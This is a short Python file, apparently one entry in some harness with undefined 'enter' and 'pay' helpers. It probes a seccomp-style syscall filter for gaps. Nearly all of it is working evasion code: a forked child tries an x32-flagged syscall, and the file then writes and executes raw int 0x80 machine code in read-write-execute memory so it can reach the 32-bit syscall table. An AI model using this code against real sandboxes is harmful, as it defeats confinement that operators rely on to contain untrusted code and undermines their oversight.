"""Asks the kernel through its other tables of calls, x32 and 32-bit, which a careless filter does not look at."""

import ctypes
import mmap
import os
import platform
import signal

CODE = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20; int 0x80; ret: getpid of the 32-bit table


@enter
def answer(*arguments):
    if platform.machine() != "x86_64":
        os.kill(os.getpid(), signal.SIGSYS)
    child = os.fork()
    if child == 0:
        ctypes.CDLL(None).syscall(0x40000000 | 39)
        os._exit(0)
    stole = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) != -signal.SIGSYS
    if stole:
        return pay(stole, *arguments)
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
    return pay(True, *arguments)
